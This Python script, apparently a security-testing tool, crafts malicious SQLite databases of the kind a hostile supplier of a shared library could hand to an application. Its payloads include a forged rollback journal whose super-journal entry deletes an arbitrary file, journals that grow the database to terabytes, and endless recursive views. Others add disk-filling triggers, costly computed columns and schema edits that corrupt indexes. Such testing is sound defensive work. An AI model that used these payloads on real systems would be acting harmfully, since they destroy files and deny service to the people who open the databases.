"""Changes a library or the result of a shard as somebody could who makes one for others.

    make_library_attack.py NAME DATABASE [ARGUMENT]

Each NAME is a function below; its first line says what opening or reading the database would do.
"""

import os
import sqlite3
import struct
import sys

PAGE = 4096


def run(path, sql):
    connection = sqlite3.connect(path)
    connection.executescript(sql)
    connection.close()


def change_schema(path, sql):
    """Statements that may write to the table of tables."""
    run(path, "PRAGMA writable_schema=ON;" + sql)


# ---- journals: https://www.sqlite.org/fileformat.html#the_rollback_journal --------------------------------------


def journal(pages, super_journal=b""):
    """A hot journal of no pages, which says how many pages the database had before."""
    header = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + struct.pack(">5I", 0, 0, pages, 512, PAGE)
    end = b""
    if super_journal:
        lock_page = 0x40000000 // PAGE + 1
        end = struct.pack(">I", lock_page) + super_journal + struct.pack(">2I", len(super_journal), sum(super_journal))
        end += header[:8]
    return header.ljust(512, b"\0") + end


def pages_of(path):
    return os.path.getsize(path) // PAGE


def super_journal(path, victim):
    """Deletes another file: a rollback ends by deleting the super-journal that the journal names."""
    open(path + "-journal", "wb").write(journal(pages_of(path), os.path.abspath(victim).encode()))


def growing_journal(path):
    """Grows the database to terabytes: a rollback gives it the size that the journal says."""
    open(path + "-journal", "wb").write(journal(0x3FFFFFFF))


def fifo(path):
    """Waits for ever."""
    os.mkfifo(path)


def log_of_another(path):
    """Takes over what a log says that belongs to another database: that of a view instead of clips."""
    copy = path + ".copy"
    source = sqlite3.connect(path)
    target = sqlite3.connect(copy)
    source.backup(target)
    source.close()
    target.execute("PRAGMA journal_mode=WAL")
    endless_view_of(target)
    target.commit()
    data = open(copy + "-wal", "rb").read()
    target.close()
    os.remove(copy)
    open(path + "-wal", "wb").write(data)


def rollback_mode(path):
    """Is not in write-ahead mode, so that a journal beside it would be used."""
    run(path, "PRAGMA journal_mode=DELETE;")


# ---- schemas ----------------------------------------------------------------------------------------------------


def endless_view_of(connection):
    columns = [row[1] for row in connection.execute("PRAGMA table_info(clips)")]
    values = ",".join("1" if name in ("file", "number", "id") else "n" for name in columns)
    connection.execute("ALTER TABLE clips RENAME TO old_clips")
    connection.execute(
        "CREATE VIEW clips(%s) AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT %s FROM r"
        % (",".join(columns), values)
    )


def endless_view(path):
    """Reads for ever: clips is a view whose rows do not end."""
    connection = sqlite3.connect(path)
    endless_view_of(connection)
    connection.commit()
    connection.close()


def filling_trigger(path):
    """Fills the disk: each change of a file adds 50 MB."""
    rows = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<50)" \
        " SELECT new.id,'x',zeroblob(1000000) FROM r"
    run(path, f"CREATE TRIGGER t AFTER UPDATE ON files BEGIN INSERT INTO warnings {rows}; END;"
        f"CREATE TRIGGER u AFTER INSERT ON files BEGIN INSERT INTO warnings {rows}; END;")


def generated_column(path):
    """Computes what it likes whenever a row is read."""
    run(path, "ALTER TABLE files ADD COLUMN g AS (length(hex(zeroblob(100000000))));")


def computing_index(path):
    """Computes what it likes whenever a row is written."""
    run(path, "CREATE INDEX i ON clips(length(hex(zeroblob(seconds))));")


def computing_default(path):
    """Computes what it likes whenever a row is written: the table is the same but for one default."""
    change_schema(path, "UPDATE sqlite_schema SET sql=replace(sql,'name TEXT NOT NULL,',"
                  "'name TEXT NOT NULL CHECK(length(hex(zeroblob(100000000)))),') WHERE name='clips';")


def virtual_table(path):
    """Runs the code of a module of SQLite."""
    run(path, "CREATE VIRTUAL TABLE v USING fts5(a);")


def other_table(path):
    """Has a table more than a library."""
    run(path, "CREATE TABLE notes(text);")


def no_index(path):
    """Has an index less, so that every deletion reads all rows."""
    run(path, "DROP INDEX warnings_file;")


def no_id(path):
    """Says to be of no program."""
    run(path, "PRAGMA application_id=0;")


# ---- values -----------------------------------------------------------------------------------------------------


def sql(path, statement):
    """Whatever the statement does."""
    run(path, statement)


def repeated_row(path):
    """Has one row of 20 KB 3000 times: the index of the table names it as often."""
    run(path, "DELETE FROM warnings; INSERT INTO warnings SELECT min(id),'x',printf('%.*c',20000,'y') FROM files;"
        "CREATE TABLE t(a,b,c,PRIMARY KEY(a,b,c)) WITHOUT ROWID;"
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<3000)"
        " INSERT INTO t SELECT (SELECT min(id) FROM files),n,1 FROM r;")
    change_schema(path, "UPDATE sqlite_schema SET rootpage=(SELECT rootpage FROM sqlite_schema WHERE name='t')"
                  " WHERE name='warnings_file'; DELETE FROM sqlite_schema WHERE name='t';")


def repeated_clip(path):
    """Has one clip of a long name 3000 times: the index of the table names it as often."""
    run(path, "UPDATE clips SET name=printf('%.*c',20000,'y');"
        "CREATE TABLE t(a,b,c,PRIMARY KEY(a,b,c)) WITHOUT ROWID;"
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<3000)"
        " INSERT INTO t SELECT file,n,id FROM r,(SELECT file,min(id) AS id FROM clips);")
    change_schema(path, "UPDATE sqlite_schema SET rootpage=(SELECT rootpage FROM sqlite_schema WHERE name='t')"
                  " WHERE name='sqlite_autoindex_clips_1'; DELETE FROM sqlite_schema WHERE name='t';")


def many_findings(path):
    """Takes long to search: a file with a million findings."""
    run(path, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n<1000000)"
        " INSERT INTO findings SELECT (SELECT min(id) FROM files),'','info',NULL,NULL,'' FROM r;")


globals()[sys.argv[1]](*sys.argv[2:])
